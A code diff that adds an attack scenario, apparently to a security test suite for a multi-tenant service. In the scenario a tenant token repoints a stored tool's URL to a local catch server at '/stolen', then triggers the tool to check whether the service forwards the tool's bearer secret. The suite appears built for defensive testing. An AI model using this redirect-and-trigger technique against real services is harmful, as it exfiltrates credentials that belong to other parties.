@@ -1,11 +1,13 @@
 // Attacks by a server that a tenant lets the service ask.
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { type Attack, ask, must } from './attack.ts';
+import { pause } from '../conversation/scenario.ts';
+import { type Attack, ask, isOver, must } from './attack.ts';
 import { inTurns } from './reading-attacks.ts';
 
 const V1 = '/api/v1';
 const PINGS = 19_000;
+const PATIENT_MS = 300;
 
 interface Question {
   id?: number;
@@ -65,5 +67,39 @@ export const pings: Attack = {
     } finally {
       server.close();
     }
+  },
+};
+
+export const movedTool: Attack = {
+  name: 'a token that may not read headers moves a tool to another server, and has it asked',
+  async strike(target, untilMs) {
+    const { token } = target.tenant;
+    const seen: string[] = [];
+    const server = createServer((request, response) => {
+      if (request.url === '/stolen') seen.push(String(request.headers.authorization ?? 'nothing'));
+      response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as AddressInfo;
+    const headers = { Authorization: 'Bearer SECRET-OF-THE-SHOP' };
+    const body = { name: 'moved', description: 'Finds orders.', url: 'https://shop.example/orders', headers };
+    try {
+      const { id } = await must<{ id: string }>(target, { method: 'POST', path: `${V1}/tools`, token, body });
+      const path = `${V1}/tools/${id}`;
+      while (!isOver(untilMs)) {
+        const url = `http://127.0.0.1:${port}/stolen`;
+        await ask(target, { method: 'PATCH', path, token, body: { url } });
+        await ask(target, { method: 'POST', path: `${path}/test`, token, body: {} });
+        await ask(target, { method: 'PATCH', path, token, body: { url: body.url, headers } });
+        await pause(PATIENT_MS);
+      }
+      await must(target, { method: 'DELETE', path, token });
+    } finally {
+      server.closeAllConnections();
+      server.close();
+    }
+    if (seen.length === 0) throw new Error('the tool was not asked');
+    const stolen = seen.filter((header) => header.includes('SECRET')).length;
+    return { words: `asked ${seen.length} times, with the secret ${stolen} times`, succeeded: stolen > 0 };
   },
 };
